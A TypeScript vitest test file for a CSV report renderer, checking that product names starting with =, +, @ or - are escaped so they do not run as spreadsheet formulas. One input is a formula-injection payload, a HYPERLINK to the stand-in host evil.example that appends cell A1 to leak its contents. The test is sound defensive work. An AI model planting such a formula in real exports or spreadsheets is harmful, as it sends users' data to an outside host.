import { describe, expect, it } from 'vitest';
import type { MetricsStore } from '../src/metrics/metrics-store.js';
import { renderReport } from '../src/reports/report-render.js';

/** Only what a TOP_PRODUCTS report reads: the best sellers, with names their suppliers chose. */
function storeSelling(products: Array<{ name: string | null; revenue: number }>): MetricsStore {
  const topProducts = async () =>
    products.map((product, index) => ({ productId: `00000000-0000-4000-8000-00000000000${index}`, quantity: 1, ...product }));
  return { topProducts } as unknown as MetricsStore;
}

const topProductsCsv = (products: Array<{ name: string | null; revenue: number }>) =>
  renderReport(storeSelling(products), {
    kind: 'TOP_PRODUCTS',
    format: 'CSV',
    periodStart: new Date('2026-03-10T00:00:00.000Z'),
    periodEnd: new Date('2026-03-11T00:00:00.000Z'),
  });

describe('a CSV report', () => {
  it('keeps a supplier-chosen product name that looks like a formula from running in a spreadsheet', async () => {
    const report = await topProductsCsv([
      { name: '=HYPERLINK("https://evil.example/?leak="&A1,"Botijão")', revenue: 11_000 },
      { name: '+SUM(1,2)', revenue: 1 },
      { name: '@cmd', revenue: 1 },
      { name: '-1+1', revenue: 1 },
    ]);
    const rows = report.text.trim().split('\r\n').slice(1);
    expect(rows).toEqual([
      `00000000-0000-4000-8000-000000000000,"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Botijão"")",1,11000`,
      `00000000-0000-4000-8000-000000000001,"'+SUM(1,2)",1,1`,
      `00000000-0000-4000-8000-000000000002,'@cmd,1,1`,
      `00000000-0000-4000-8000-000000000003,'-1+1,1,1`,
    ]);
  });

  it('writes ordinary names, quotes and negative figures as they are', async () => {
    const report = await topProductsCsv([
      { name: 'Botijão P13, "Ultragaz"', revenue: -500 },
      { name: null, revenue: 0 },
    ]);
    expect(report.contentType).toBe('text/csv');
    expect(report.text).toBe(
      'productId,name,quantity,revenue\r\n' +
        '00000000-0000-4000-8000-000000000000,"Botijão P13, ""Ultragaz""",1,-500\r\n' +
        '00000000-0000-4000-8000-000000000001,,1,0\r\n',
    );
  });
});
